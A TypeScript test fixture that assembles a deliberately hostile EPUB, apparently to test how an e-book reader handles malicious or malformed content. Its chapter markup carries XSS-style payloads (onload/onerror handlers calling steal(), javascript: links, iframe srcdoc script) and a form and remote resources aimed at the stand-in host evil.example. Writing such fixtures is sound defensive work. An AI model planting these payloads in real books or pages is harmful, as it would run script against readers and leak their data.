import { strToU8, zipSync } from 'fflate';

const CONTAINER =
  '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="EPUB/package.opf" media-type="application/oebps-package+xml"/></rootfiles></container>';

/** Rules that hide, move and repeat: about two megabytes of them, remote ones among them. */
const HUGE_CSS =
  '@import url(https://evil.example/all.css); @font-face { font-family: x; src: url(https://evil.example/x.woff2) }' +
  'body { background: url("https://evil.example/bg.png"); font-family: x }' +
  Array.from({ length: 40_000 }, (_, i) => `.c${i} > p:nth-child(${i}) { margin: ${i}px; color: #123456 }`).join('\n');

/** What no XML reader takes: open tags, names nobody knows, attributes twice, a stray sign. */
const BROKEN =
  '<html><head><title>Broken & open</title><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/l.css">' +
  '<meta http-equiv="refresh" content="0;url=https://evil.example/"></head><body onload=steal() onload="again()">' +
  '<p class=a class=b>The broken chapter still says its words &nbsp;&unknown; 1 < 2<p>and goes on <b>without <i>end</b>' +
  '<form action="https://evil.example/post"><input name=secret><button>Send the secret</button></form>' +
  '<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3"></audio>' +
  '<img src=x onerror="parent.steal()"><img srcset="https://evil.example/2x.png 2x"><svg onload=steal()><a xlink:href="javascript:steal()"><text y=20>svg</text></a><animate onbegin="steal()"/></svg>' +
  '<a href="javascript:steal()">a trap</a><iframe srcdoc="<script>parent.steal()</script>"></iframe><math><maction actiontype="statusline#https://evil.example">m</maction></math>' +
  '<div style="background:url(https://evil.example/s.png);position:fixed;inset:0">over all</div>';

/** An EPUB that tries what a book can try against its reader, in markup that is no XHTML. */
export function hostileBook(): Uint8Array {
  return zipSync({
    mimetype: [strToU8('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': strToU8(CONTAINER),
    'EPUB/huge.css': strToU8(HUGE_CSS),
    'EPUB/nav.xhtml': strToU8(
      '<html xmlns="http://www.w3.org/1999/xhtml" xmlns:epub="http://www.idpf.org/2007/ops"><head><title>Contents</title></head><body><nav epub:type="toc"><ol><li><a href="a.xhtml">Styled</a></li><li><a href="b.xhtml">Broken</a></li></ol></nav></body></html>',
    ),
    'EPUB/a.xhtml': strToU8(
      '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Styled</title><link rel="stylesheet" href="huge.css"/></head><body><p>The styled chapter is read all the same.</p></body></html>',
    ),
    'EPUB/b.xhtml': strToU8(BROKEN),
    'EPUB/package.opf': strToU8(
      '<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/">' +
        '<dc:identifier id="id">hostile</dc:identifier><dc:title>A Book With Bad Intentions</dc:title><dc:language>English (US)</dc:language></metadata><manifest>' +
        '<item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/><item id="css" href="huge.css" media-type="text/css"/>' +
        '<item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="b.xhtml" media-type="application/xhtml+xml"/></manifest>' +
        '<spine><itemref idref="a"/><itemref idref="b"/></spine></package>',
    ),
  });
}
